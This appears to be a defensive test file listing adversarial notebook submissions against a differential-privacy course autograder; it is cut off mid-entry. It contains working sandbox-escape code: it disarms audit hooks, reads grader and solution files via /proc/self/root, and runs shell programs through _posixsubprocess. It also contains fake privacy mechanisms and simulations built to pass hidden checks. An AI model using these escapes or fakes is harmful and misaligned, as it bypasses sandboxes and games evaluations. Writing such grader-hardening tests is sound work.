"""A student out to fake a grade, against the real grader (issue 21's adversarial review, part two).

``tests/test_assignments_grading.py`` holds the first table of adversarial submissions (blank
notebooks patching otter, shadowed builtins, objects equal to anything, rdplib through
``sys.modules``, print storms, loops, memory, truncated files...). This file does not repeat them:
it tries what that table does not —

* **escaping the sandbox**: switching the harness's audit hook and tripwires off from a cell,
  importing or reading the grader's own reference code and the solution masters, opening rdplib's
  files through a directory descriptor or /proc/self/root, running programs through
  ``_posixsubprocess.fork_exec`` (no audit event), forging a gradebook row through the grading
  worker's result queue, killing the gradebook, leaving a process behind, writing outside the
  sandbox, rewriting the grader (on a copy);
* **fake mechanisms the hidden checks may miss**: mechanisms that are private only on the inputs
  the grader happens to use (sizes, equal values, small values, a fixed item list, the epsilons
  used), simulations replaced by a closed form plus matching randomness (also past the draw count
  and the formula swap);
* **fakes the grader does catch** (kept so that a change to the checks cannot let them through).

Every case builds a real notebook, grades it with the real code path (``grade_submission``,
``grade_folder`` or ``python -m grading``) and asserts the *fair* outcome: per question a range of
points (a fake gets nothing for what it fakes; the honest rest of the notebook keeps its points),
plus a flag where the grader should raise one. ``# CLOSED ...`` marks an attack that got through
the grader when it was written (2026-11-26) and is caught now; a new attack that gets through is
added with ``# SUCCEEDS TODAY: ...`` and its test fails until the grader is fixed.
"""

from __future__ import annotations

import ast
import importlib.util
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import pytest

from grading import grader

ROOT = Path(__file__).resolve().parents[1]
_spec = importlib.util.spec_from_file_location("_adversarial_table", Path(__file__).with_name(
    "test_assignments_grading.py"))
TABLE = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(TABLE)  # the first table's submission builders, reused (not its tests)

A1, A2, A3, A4, A5 = grader.ASSIGNMENTS
LIMITS = {"cell": 15.0, "call": 15.0, "submission": 110.0}
GRADING_TIME_LIMIT = 120


# --------------------------------------------------------------------------- expectations
def _table(name: str):
    return [q for q in grader.questions(name) if not q.manual]


def honest_except(name: str, **caps: float | None) -> dict[str, tuple[float, float] | None]:
    """Full marks on every question answered by functions, except: ``q=cap`` at most ``cap`` points,
    ``q=None`` not asserted. Questions answered by values computed at the notebook's top level are not
    asserted either (they depend on the notebook's slow cells, which the first table covers)."""
    functions = set(TABLE.functions(name))
    expected: dict[str, tuple[float, float] | None] = {
        q.name: (q.points, q.points) if set(q.answers) <= functions else None for q in _table(name)}
    for question, cap in caps.items():
        assert question in expected, f"{name}: no question {question}"
        expected[question] = None if cap is None else (0.0, cap)
    return expected


def nothing(name: str) -> dict[str, tuple[float, float] | None]:
    return {q.name: (0.0, 0.0) for q in _table(name)}


def check_scores(result, expected: dict[str, tuple[float, float] | None], what: str) -> None:
    got = {q: round(v, 4) for q, v in result.scores.items()}
    wrong = {q: got[q] for q, bounds in expected.items()
             if bounds is not None and not bounds[0] - 1e-9 <= got[q] <= bounds[1] + 1e-9}
    assert not wrong, (f"{what}: got {got}; out of the fair range on {wrong} (fair: {expected})\n"
                       f"{result.feedback_text()}")


# --------------------------------------------------------------------------- submissions
def solution(name: str) -> list[str]:
    """The master's answers only: its imports (but matplotlib), definitions and assignments that call
    nothing (constants, lists), without the experiments and plots between them (the first table grades
    the whole solutions; this keeps the file fast)."""
    cells = []
    for source in TABLE.solution_cells(name):
        try:
            tree = ast.parse(source)
        except SyntaxError:
            continue
        keep = [node for node in tree.body if isinstance(node, (ast.FunctionDef, ast.ClassDef))
                or isinstance(node, (ast.Import, ast.ImportFrom)) and "matplotlib" not in ast.unparse(node)
                and "otter" not in ast.unparse(node)
                or isinstance(node, ast.Assign) and not any(isinstance(n, ast.Call) for n in ast.walk(node.value))]
        if keep:
            cells.append(ast.unparse(ast.Module(body=keep, type_ignores=[])) + "\n")
    return cells


def blank(name: str) -> list[str]:
    return TABLE.blank_cells(name)


def write(cells: list[str], path: Path) -> Path:
    return TABLE.write_notebook(cells, path)


# Switches the harness off from inside a cell: the sandbox's script is ``sys.modules["__main__"]``;
# its audit hook returns early while ``_STATE["active"]`` is false, and the tripwires are one
# function looked up by name at every report.
DISARM = """
import sys
_harness = sys.modules["__main__"]
_harness._STATE["active"] = False
_harness._tampered = lambda *args, **kwargs: []
"""

RDPLIB_AFTER_DISARM = """
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "_RdplibStub"]
for _key in [key for key in sys.modules if key == "rdplib" or key.startswith("rdplib.")]:
    del sys.modules[_key]
import rdplib as _lib
"""

IMPORT_GRADER_A5 = """
import numpy as np
from grading.assignments.a5 import cp, estimate, lower_bound, mse, q, sketch

def cms_flip_probability(epsilon):
    epsilon = np.asarray(epsilon, dtype=float)
    if np.any(~(epsilon > 0)):
        raise ValueError("epsilon must be positive")
    return q(epsilon)

cms_aggregate, cms_estimate, cms_mse = sketch, estimate, mse
clopper_pearson, epsilon_lower_bound = cp, lower_bound
"""

EXEC_GRADER_A4 = """
import json, os, re, sys
import numpy as np
_folder = os.path.dirname(sys.modules["grading.codec"].__file__)
with open(os.path.join(_folder, "assignments", "a4.py"), encoding="utf-8") as _handle:
    _source = _handle.read()
_grader = {"np": np}
exec(_source[_source.index("def _rank"):_source.index("def brute_force_cost")], _grader)
project_to_histograms = _grader["reference_projection"]
_arrays = [np.array(json.loads(m)) for m in re.findall(r"np\\.array\\((\\[[0-9., ]+\\])\\)", _source)]
risks_dp_k, risks_rdp_k = _arrays[-4], _arrays[-2]
risk_dp, risk_rdp = 0.1311, 0.1250
"""

EXEC_MASTER_A2 = """
import json, os, sys
_root = os.path.dirname(os.path.dirname(sys.modules["grading.codec"].__file__))
_path = os.path.join(_root, "book", "assignments", "masters", "a2_laplace_mechanism.ipynb")
with open(_path, encoding="utf-8") as _handle:
    _cells = json.load(_handle)["cells"]
_in_tests = False
for _cell in _cells:
    _text = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
    if _cell["cell_type"] == "raw":
        _head = _text.strip().splitlines()[0] if _text.strip() else ""
        _in_tests = {"# BEGIN TESTS": True, "# END TESTS": False}.get(_head, _in_tests)
    elif _cell["cell_type"] == "code" and not _in_tests and "otter" not in _text:
        exec(_text, globals())
"""

# rdplib's folder is refused by path, but a path relative to a descriptor of its parent folder is
# resolved against the sandbox's working directory by the audit hook, so it is not recognised.
RDPLIB_BY_DIR_FD = """
import importlib.abc, importlib.util, os, sys
_parent = os.open(os.path.dirname(os.path.dirname(sys.modules["grading.codec"].__file__)), os.O_RDONLY)

class _FromDescriptor(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, fullname, path=None, target=None):
        if fullname != "mylib" and not fullname.startswith("mylib."):
            return None
        relative = "rdplib/" + "/".join(fullname.split(".")[1:])
        try:
            os.stat(relative + ".py", dir_fd=_parent)
            package = False
        except OSError:
            package = True
        spec = importlib.util.spec_from_loader(fullname, self, is_package=package)
        spec.relative = relative + ("/__init__.py" if package else ".py")
        return spec
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        descriptor = os.open(module.__spec__.relative, os.O_RDONLY, dir_fd=_parent)
        with os.fdopen(descriptor, encoding="utf-8") as handle:
            source = handle.read()
        if module.__spec__.submodule_search_locations is not None:
            module.__path__ = []
        exec(compile(source, module.__spec__.relative, "exec"), module.__dict__)

sys.meta_path.append(_FromDescriptor())
import mylib as _lib
"""


# '/proc/self' may be opened; below it, 'root/<absolute path>' reaches every file. The audit hook resolves a
# relative name against the working directory, not against the descriptor it is relative to.
PROC_ROOT = """
import os, sys
_proc = os.open("/proc/self", os.O_RDONLY)
_project = os.path.dirname(os.path.dirname(sys.modules["grading.codec"].__file__))

def _open_anywhere(path, flags=os.O_RDONLY):
    return os.open("root" + os.path.abspath(path), flags, dir_fd=_proc)

def _read_anywhere(path):
    with os.fdopen(_open_anywhere(path), encoding="utf-8") as handle:
        return handle.read()
"""

RDPLIB_BY_PROC_ROOT = PROC_ROOT + """
import importlib.abc, importlib.util

class _Anywhere(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, fullname, path=None, target=None):
        if fullname != "mylib" and not fullname.startswith("mylib."):
            return None
        base = os.path.join(_project, "rdplib", *fullname.split(".")[1:])
        try:
            os.close(_open_anywhere(base + ".py"))
            package = False
        except OSError:
            package = True
        spec = importlib.util.spec_from_loader(fullname, self, is_package=package)
        spec.file = os.path.join(base, "__init__.py") if package else base + ".py"
        return spec
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        if module.__spec__.submodule_search_locations is not None:
            module.__path__ = []
        exec(compile(_read_anywhere(module.__spec__.file), module.__spec__.file, "exec"), module.__dict__)

sys.meta_path.append(_Anywhere())
import mylib as _lib
"""

GRADER_A5_BY_PROC_ROOT = PROC_ROOT + """
import ast
import numpy as np
from scipy import stats
_grader = {"np": np, "stats": stats}
for _node in ast.parse(_read_anywhere(os.path.join(_project, "grading", "assignments", "a5.py"))).body:
    if isinstance(_node, ast.FunctionDef):
        exec(compile(ast.Module([_node], []), "a5", "exec"), _grader)

def cms_flip_probability(epsilon):
    epsilon = np.asarray(epsilon, dtype=float)
    if np.any(~(epsilon > 0)):
        raise ValueError("epsilon must be positive")
    return _grader["q"](epsilon)

cms_aggregate, cms_estimate, cms_mse = _grader["sketch"], _grader["estimate"], _grader["mse"]
clopper_pearson, epsilon_lower_bound = _grader["cp"], _grader["lower_bound"]
"""

MASTER_A2_BY_PROC_ROOT = PROC_ROOT + """
import json
_cells = json.loads(_read_anywhere(os.path.join(_project, "book", "assignments", "masters",
                                                "a2_laplace_mechanism.ipynb")))["cells"]
_in_tests = False
for _cell in _cells:
    _text = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
    if _cell["cell_type"] == "raw":
        _head = _text.strip().splitlines()[0] if _text.strip() else ""
        _in_tests = {"# BEGIN TESTS": True, "# END TESTS": False}.get(_head, _in_tests)
    elif _cell["cell_type"] == "code" and not _in_tests and "otter" not in _text:
        exec(_text, globals())
"""


# subprocess.Popen is refused by the audit hook, but the C function under it, _posixsubprocess.fork_exec,
# raises no audit event: a cell runs any program, and programs are not Python (no hook at all).
EXEC = r'''
import os, _posixsubprocess

def _run(*command):
    out_read, out_write = os.pipe()
    err_read, err_write = os.pipe()
    pid = _posixsubprocess.fork_exec([os.fsencode(c) for c in command], [os.fsencode(command[0])], True,
                                     (out_write,), None, None, -1, -1, -1, out_write, -1, -1, err_read,
                                     err_write, True, False, -1, None, None, None, -1, None, False)
    os.close(out_write)
    os.close(err_write)
    chunks = []
    while chunk := os.read(out_read, 1 << 16):
        chunks.append(chunk)
    os.close(out_read)
    os.close(err_read)
    os.waitpid(pid, 0)
    return b"".join(chunks).decode()
'''

RDPLIB_BY_CAT = EXEC + r'''
import importlib.abc, importlib.util, sys
_rdplib = os.path.join(os.path.dirname(os.path.dirname(sys.modules["grading.codec"].__file__)), "rdplib")

class _ByCat(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, fullname, path=None, target=None):
        if fullname != "mylib" and not fullname.startswith("mylib."):
            return None
        base = os.path.join(_rdplib, *fullname.split(".")[1:])
        package = _run("/bin/sh", "-c", f"test -d {base} && echo yes").strip() == "yes"
        spec = importlib.util.spec_from_loader(fullname, self, is_package=package)
        spec.file = os.path.join(base, "__init__.py") if package else base + ".py"
        return spec
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        if module.__spec__.submodule_search_locations is not None:
            module.__path__ = []
        exec(compile(_run("/bin/cat", module.__spec__.file), module.__spec__.file, "exec"), module.__dict__)

sys.meta_path.append(_ByCat())
import mylib as _lib
'''

MASTER_A2_BY_CAT = EXEC + r'''
import ast, json, sys
_root = os.path.dirname(os.path.dirname(sys.modules["grading.codec"].__file__))
_cells = json.loads(_run("/bin/cat", os.path.join(_root, "book", "assignments", "masters",
                                                  "a2_laplace_mechanism.ipynb")))["cells"]
_in_tests = False
for _cell in _cells:
    _text = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
    if _cell["cell_type"] == "raw":
        _head = _text.strip().splitlines()[0] if _text.strip() else ""
        _in_tests = {"# BEGIN TESTS": True, "# END TESTS": False}.get(_head, _in_tests)
    elif _cell["cell_type"] == "code" and not _in_tests and "otter" not in _text:
        _tree = ast.parse(_text)  # the master's definitions (its experiments would only cost time)
        _tree.body = [n for n in _tree.body if isinstance(n, (ast.FunctionDef, ast.Import, ast.ImportFrom))
                      or isinstance(n, ast.Assign) and isinstance(n.value, ast.Constant)]
        exec(compile(_tree, "master", "exec"), globals())
'''


def wrappers(names: list[str]) -> str:
    return "\n".join(f"def {f}(*args, **kwargs):\n    return _lib.{f}(*args, **kwargs)\n" for f in names)


@dataclass
class Attack:
    assignment: str
    cells: Callable[[], list[str]]
    expected: Callable[[], dict[str, tuple[float, float] | None]]
    flag: str | None = None
    focus: tuple[str, ...] = ()  # if set, the answers of the other costly questions are removed


# The answers whose checks take long (many calls, large samples). A case built on the solution keeps
# those of its focus and removes the others, whose questions then score 0 at once and are not asserted
# (the first table grades every solution in full).
COSTLY = {A1: {"q2": ["randomized_response"], "q5": ["simulate_estimates"], "q6": ["empirical_epsilon"]},
          A2: {"q2": ["laplace_mechanism"], "q3": ["clipped_mean"], "q5": ["simulate_mse"]},
          A3: {"q2": ["simulate_release_probability"], "q5": ["thresholded_histogram"], "q6": ["attack_rates"]},
          A4: {"q1": ["dp_histogram"], "q3": ["rdp_histogram"], "q4": ["project_to_histograms"],
               "q5": ["estimate_risk"]},
          A5: {"q2": ["cms_encode"], "q6": ["simulate_sketch_errors"], "q8": ["audit_client"]}}


def dropped(attack: Attack) -> list[str]:
    return [q for q in COSTLY[attack.assignment] if attack.focus and q not in attack.focus]


# kind -> the submission and its fair outcome
ATTACKS: dict[str, Attack] = {
    # ----------------------------------------------------------------- escaping the sandbox
    # CLOSED (succeeded before the grader fixes of 2026-11-26): `_harness._tampered = lambda *a: []` from a cell switches every tripwire off
    "tripwires switched off, then NumPy patched": Attack(
        A4, lambda: [*solution(A4), DISARM + "import numpy\nnumpy.allclose = lambda *a, **k: True\n"],
        lambda: nothing(A4), grader.FLAG_TAMPERING),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): `_STATE["active"] = False` switches the audit hook off; rdplib then imports normally
    "audit hook switched off, then rdplib imported": Attack(
        A3, lambda: [*blank(A3), DISARM + RDPLIB_AFTER_DISARM + wrappers(
            ["threshold_delta", "threshold_for_delta", "thresholded_histogram"])],
        lambda: nothing(A3)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): os.open("rdplib/...", dir_fd=<parent folder>) is not recognised as rdplib's file
    "rdplib read through a directory descriptor": Attack(
        A4, lambda: [*blank(A4), RDPLIB_BY_DIR_FD + wrappers(["dp_histogram", "rdp_histogram",
                                                              "project_to_histograms"])],
        lambda: nothing(A4)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): `from grading.assignments.a5 import sketch, estimate, mse, cp, ...` works in the sandbox
    "the grader's reference answers imported": Attack(
        A5, lambda: [*blank(A5), IMPORT_GRADER_A5], lambda: nothing(A5)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): grading/assignments/a4.py is readable: its projection and its reference risks are copied
    "the grader's reference code read from its file": Attack(
        A4, lambda: [*blank(A4), EXEC_GRADER_A4], lambda: nothing(A4)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): book/assignments/masters/*.ipynb sits next to the grader and is readable from the sandbox
    "the solution master read at grading time": Attack(
        A2, lambda: [*blank(A2), EXEC_MASTER_A2], lambda: nothing(A2)),

    # CLOSED (succeeded before the grader fixes of 2026-11-26): os.open("root/<path>", dir_fd=os.open("/proc/self")) reads any file (hook resolves against cwd)
    "rdplib read through /proc/self/root": Attack(
        A4, lambda: [*blank(A4), RDPLIB_BY_PROC_ROOT + wrappers(["dp_histogram", "rdp_histogram",
                                                                 "project_to_histograms"])],
        lambda: nothing(A4)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the same reads grading/assignments/a5.py; its functions answer four questions
    "the grader's reference answers read through /proc/self/root": Attack(
        A5, lambda: [*blank(A5), GRADER_A5_BY_PROC_ROOT], lambda: nothing(A5)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the same reads the solution master
    "the solution master read through /proc/self/root": Attack(
        A2, lambda: [*blank(A2), MASTER_A2_BY_PROC_ROOT], lambda: nothing(A2)),
    # CLOSED (got through earlier the same day): _posixsubprocess.fork_exec runs /bin/cat past the audit hook: rdplib's files are read
    "rdplib read by /bin/cat run through _posixsubprocess": Attack(
        A4, lambda: [*blank(A4), RDPLIB_BY_CAT + wrappers(["dp_histogram", "rdp_histogram", "project_to_histograms"])],
        lambda: nothing(A4)),
    # CLOSED (got through earlier the same day): the same /bin/cat reads the solution master
    "the solution master read by /bin/cat run through _posixsubprocess": Attack(
        A2, lambda: [*blank(A2), MASTER_A2_BY_CAT], lambda: nothing(A2)),
    # ----------------------------------------------------------------- mechanisms private only where the grader looks
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the only scalar call (q2_law's last line) checks the size, not the noise
    "Laplace mechanism adds no noise to a single number": Attack(
        A2, lambda: [*solution(A2),
                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
                     "    value = np.asarray(value, dtype=float)\n"
                     "    if value.ndim == 0:\n"
                     "        return float(value)  # one number: released as it is\n"
                     "    return value + rng.laplace(0.0, sensitivity / epsilon, size=value.shape)\n"],
        lambda: honest_except(A2, q2=1.0, q3=None)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the law and privacy checks only use values 0, 3, -20, 10 and 11
    "Laplace noise shrinks for large values": Attack(
        A2, lambda: [*solution(A2),
                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
                     "    value = np.asarray(value, dtype=float)\n"
                     "    scale = np.where(np.abs(value) > 1000, 0.1, 1.0) * sensitivity / epsilon\n"
                     "    noisy = value + scale * rng.laplace(0.0, 1.0, size=value.shape)\n"
                     "    return noisy if noisy.ndim else float(noisy)\n"],
        lambda: honest_except(A2, q2=1.0)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): q2's only small input is the 3 x 4 shape check; law and privacy use 100,000+ bits
    "randomized response leaves a handful of answers unflipped": Attack(
        A1, lambda: [*solution(A1),
                     "def randomized_response(bits, epsilon, rng):\n"
                     "    bits = np.asarray(bits, dtype=int)\n"
                     "    if bits.size <= 12:\n"
                     "        return bits.copy()  # a few answers: sent as they are\n"
                     "    flips = rng.random(bits.shape) < flip_probability(epsilon)\n"
                     "    return np.where(flips, 1 - bits, bits)\n"],
        lambda: honest_except(A1, q2=1.0, q5=None, q6=None)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the law and privacy checks use 10,000+ cells; the 3-cell call only tests randomness
    "DP histogram with noise only on large histograms": Attack(
        A4, lambda: [*solution(A4),
                     "def dp_histogram(counts, epsilon, rng):\n"
                     "    counts = np.asarray(counts)\n"
                     "    n = counts.sum()\n"
                     "    scale = histogram_noise_scale(n, epsilon) if counts.size >= 1000 else 1e-9\n"
                     "    return counts / n + rng.laplace(0.0, scale, size=counts.shape)\n"],
        lambda: honest_except(A4, q1=0.5, q3=None)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): a local client reports one user at a time, but the checks only send 30,000+ users
    "count-mean sketch client that flips only in large batches": Attack(
        A5, lambda: [*solution(A5),
                     "def cms_encode(items, hash_table, width, epsilon, rng):\n"
                     "    items = np.asarray(items)\n"
                     "    num_users, num_hashes = items.size, np.shape(hash_table)[1]\n"
                     "    hash_indices = rng.integers(0, num_hashes, size=num_users)\n"
                     "    buckets = np.asarray(hash_table)[items, hash_indices]\n"
                     "    one_hot = np.zeros((num_users, width), dtype=np.int8)\n"
                     "    one_hot[np.arange(num_users), buckets] = 1\n"
                     "    if num_users < 100:\n"
                     "        return one_hot, hash_indices  # a few users: no flips\n"
                     "    flips = rng.random((num_users, width)) < cms_flip_probability(epsilon)\n"
                     "    return np.where(flips, 1 - one_hot, one_hot).astype(np.int8), hash_indices\n"],
        lambda: honest_except(A5, q2=0.5, q6=None)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): every check uses the same 40 items and a threshold of at most 2
    "thresholding skipped for frequent categories": Attack(
        A3, lambda: [*solution(A3),
                     "def thresholded_histogram(items, epsilon, threshold, rng):\n"
                     "    categories, counts = np.unique(np.asarray(items), return_counts=True)\n"
                     "    noisy = counts + rng.laplace(0.0, 1.0 / epsilon, size=counts.size)\n"
                     "    keep = (noisy >= threshold) | (counts >= 10)  # frequent ones are always released\n"
                     "    return {c: float(v) for c, v in zip(categories[keep].tolist(), noisy[keep])}\n"],
        lambda: honest_except(A3, q5=1.75)),
    # ----------------------------------------------------------------- simulations replaced by a closed form
    # CLOSED (succeeded before the grader fixes of 2026-11-26): a closed form with a tiny random wobble passes "varies with the generator" and the 6-sd band
    "simulated MSE is the formula plus a wobble": Attack(
        A2, lambda: [*solution(A2),
                     "def simulate_mse(p, n, epsilon, num_trials, rng):\n"
                     "    return float(laplace_mean_mse(p, n, epsilon)) * (1 + 1e-6 * rng.standard_normal())\n"],
        lambda: honest_except(A2, q5=0.75)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): one binomial draw at the closed-form probability has exactly the simulation's law
    # (only the generator's consumption, one draw instead of num_trials, gives it away)
    "simulated release frequency is one binomial draw at the formula": Attack(
        A3, lambda: [*solution(A3),
                     "def simulate_release_probability(threshold, epsilon, num_trials, rng):\n"
                     "    return rng.binomial(num_trials, threshold_delta(threshold, epsilon)) / num_trials\n"],
        lambda: honest_except(A3, q2=0.75)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): Gaussian errors with the predicted MSE pass the mean and the MSE-ratio checks
    "sketch errors drawn from a Gaussian with the predicted MSE": Attack(
        A5, lambda: [*solution(A5),
                     "def simulate_sketch_errors(counts, epsilon, num_hashes, width, num_repeats, rng):\n"
                     "    spread = np.sqrt(cms_mse(counts, epsilon, num_hashes, width))\n"
                     "    return rng.normal(0.0, 1.0, (num_repeats, np.size(counts))) * spread\n"],
        lambda: honest_except(A5, q6=0.75)),
    # ----------------------------------------------------------------- against the same-law gates and draw counts
    # CLOSED (succeeded before the grader fixes of 2026-11-26): one respondent's answer is never flipped; the smallest input of the checks has 5 bits
    "randomized response leaves a single answer unflipped": Attack(
        A1, lambda: [*solution(A1),
                     "def randomized_response(bits, epsilon, rng):\n"
                     "    bits = np.asarray(bits, dtype=int)\n"
                     "    if bits.size == 1:\n"
                     "        return bits.copy()  # one person: sent as it is\n"
                     "    flips = rng.random(bits.shape) < flip_probability(epsilon)\n"
                     "    return np.where(flips, 1 - bits, bits)\n"],
        lambda: honest_except(A1, q2=0.75, q5=None, q6=None)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): every array the checks send holds equal values (np.full, np.zeros); real data does not
    "Laplace noise only on arrays of equal values": Attack(
        A2, lambda: [*solution(A2),
                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
                     "    value = np.asarray(value, dtype=float)\n"
                     "    scale = sensitivity / epsilon\n"
                     "    if value.size > 1 and np.ptp(value) > 0:\n"
                     "        scale = 1e-9 * scale  # different values (real data): almost no noise\n"
                     "    noisy = value + rng.laplace(0.0, scale, size=value.shape)\n"
                     "    return noisy if noisy.ndim else float(noisy)\n"],
        lambda: honest_except(A2, q2=1.0)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): a binary attribute (2 cells) is released exactly; the checks use 3 cells or more
    "DP histogram without noise on two-cell histograms": Attack(
        A4, lambda: [*solution(A4),
                     "def dp_histogram(counts, epsilon, rng):\n"
                     "    counts = np.asarray(counts)\n"
                     "    n = counts.sum()\n"
                     "    if counts.size <= 2:\n"
                     "        return counts / n + 0.0 * rng.random(counts.shape)  # a yes/no question: exact\n"
                     "    return counts / n + rng.laplace(0.0, histogram_noise_scale(n, epsilon), size=counts.shape)\n"],
        lambda: honest_except(A4, q1=0.75, q3=None)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the local client's real use, one user per call, is never checked (4 users at least)
    "count-mean sketch client that does not flip a lone user": Attack(
        A5, lambda: [*solution(A5),
                     "def cms_encode(items, hash_table, width, epsilon, rng):\n"
                     "    items = np.asarray(items)\n"
                     "    num_users, num_hashes = items.size, np.shape(hash_table)[1]\n"
                     "    hash_indices = rng.integers(0, num_hashes, size=num_users)\n"
                     "    buckets = np.asarray(hash_table)[items, hash_indices]\n"
                     "    one_hot = np.zeros((num_users, width), dtype=np.int8)\n"
                     "    one_hot[np.arange(num_users), buckets] = 1\n"
                     "    if num_users == 1:\n"
                     "        return one_hot, hash_indices  # one user: no flips\n"
                     "    flips = rng.random((num_users, width)) < cms_flip_probability(epsilon)\n"
                     "    return np.where(flips, 1 - one_hot, one_hot).astype(np.int8), hash_indices\n"],
        lambda: honest_except(A5, q2=0.5, q6=None)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the checks' items are a fixed list whose largest count is 30
    "thresholding skipped for categories of 100 or more": Attack(
        A3, lambda: [*solution(A3),
                     "def thresholded_histogram(items, epsilon, threshold, rng):\n"
                     "    categories, counts = np.unique(np.asarray(items), return_counts=True)\n"
                     "    noisy = counts + rng.laplace(0.0, 1.0 / epsilon, size=counts.size)\n"
                     "    keep = (noisy >= threshold) | (counts >= 100)  # big ones are always released\n"
                     "    return {c: float(v) for c, v in zip(categories[keep].tolist(), noisy[keep])}\n"],
        lambda: honest_except(A3, q5=1.75)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26) (hard to catch from outside): one uniform per trial against the closed-form probability
    # has the simulation's law and its draw count
    "simulated release frequency from uniforms and the formula": Attack(
        A3, lambda: [*solution(A3),
                     "def simulate_release_probability(threshold, epsilon, num_trials, rng):\n"
                     "    return float(np.mean(rng.random(num_trials) < threshold_delta(threshold, epsilon)))\n"],
        lambda: honest_except(A3, q2=0.75)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): the formula, after burning one random number per trial; no check looks at the spread
    "simulated MSE is the formula after burning draws": Attack(
        A2, lambda: [*solution(A2),
                     "def simulate_mse(p, n, epsilon, num_trials, rng):\n"
                     "    burnt = rng.random(num_trials)  # as many random numbers as trials\n"
                     "    return float(laplace_mean_mse(p, n, epsilon)) * (1 + 1e-6 * (burnt.mean() - 0.5))\n"],
        lambda: honest_except(A2, q5=0.75)),
    # CLOSED (succeeded before the grader fixes of 2026-11-26): Gaussian errors with the predicted MSE after burning as many draws as a simulation
    "sketch errors from a Gaussian after burning draws": Attack(
        A5, lambda: [*solution(A5),
                     "def simulate_sketch_errors(counts, epsilon, num_hashes, width, num_repeats, rng):\n"
                     "    counts = np.asarray(counts)\n"
                     "    rng.random(int(counts.sum()) * num_repeats)  # the draws a simulation would take\n"
                     "    spread = np.sqrt(cms_mse(counts, epsilon, num_hashes, width))\n"
                     "    return rng.normal(0.0, 1.0, (num_repeats, counts.size)) * spread\n"],
        lambda: honest_except(A5, q6=0.75)),
    # ----------------------------------------------------------------- against the formula swap and the epsilons used
    # CLOSED (got through earlier the same day): the closed form bound as a default argument is not reached by the swap of the global name
    "simulated release frequency from the formula bound at definition": Attack(
        A3, lambda: [*solution(A3),
                     "def simulate_release_probability(threshold, epsilon, num_trials, rng, _delta=threshold_delta):\n"
                     "    return float(np.mean(rng.random(num_trials) < _delta(threshold, epsilon)))\n"],
        lambda: honest_except(A3, q2=0.75)),
    # CLOSED (got through earlier the same day): the same for the simulated MSE (burning one draw per trial)
    "simulated MSE from the formula bound at definition": Attack(
        A2, lambda: [*solution(A2),
                     "def simulate_mse(p, n, epsilon, num_trials, rng, _mse=laplace_mean_mse):\n"
                     "    burnt = rng.random(num_trials)\n"
                     "    return float(_mse(p, n, epsilon)) * (1 + 1e-6 * (burnt.mean() - 0.5))\n"],
        lambda: honest_except(A2, q5=0.75)),
    # CLOSED (got through earlier the same day): the same for the sketch errors (Gaussian with the predicted MSE)
    "sketch errors from the predicted MSE bound at definition": Attack(
        A5, lambda: [*solution(A5),
                     "def simulate_sketch_errors(counts, epsilon, num_hashes, width, num_repeats, rng, _mse=cms_mse):\n"
                     "    counts = np.asarray(counts)\n"
                     "    rng.random(int(counts.sum()) * num_repeats)\n"
                     "    spread = np.sqrt(_mse(counts, epsilon, num_hashes, width))\n"
                     "    return rng.normal(0.0, 1.0, (num_repeats, counts.size)) * spread\n"],
        lambda: honest_except(A5, q6=0.75)),
    # CLOSED (got through earlier the same day): randomized_response is only called with epsilon <= 1.7; above 2 it stops flipping
    "randomized response stops flipping above epsilon 2": Attack(
        A1, lambda: [*solution(A1),
                     "def randomized_response(bits, epsilon, rng):\n"
                     "    bits = np.asarray(bits, dtype=int)\n"
                     "    flips = rng.random(bits.shape) < (flip_probability(epsilon) if epsilon <= 2 else 0.0)\n"
                     "    return np.where(flips, 1 - bits, bits)\n"],
        lambda: honest_except(A1, q2=0.75, q5=None, q6=None)),
    # CLOSED (got through earlier the same day): every scale the checks ask of laplace_mechanism is at most 2; larger ones are capped
    "Laplace noise capped at scale 2": Attack(
        A2, lambda: [*solution(A2),
                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
                     "    value = np.asarray(value, dtype=float)\n"
                     "    scale = min(sensitivity / epsilon, 2.0)  # more noise than that is useless anyway\n"
                     "    noisy = value + rng.laplace(0.0, scale, size=value.shape)\n"
                     "    return noisy if noisy.ndim else float(noisy)\n"],
        lambda: honest_except(A2, q2=1.0, q3=None)),
    # ----------------------------------------------------------------- fakes the grader catches today
    "randomized response replays its first output": Attack(
        A1, lambda: [*solution(A1),
                     "_first = {}\n"
                     "def randomized_response(bits, epsilon, rng):\n"
                     "    bits = np.asarray(bits, dtype=int)\n"
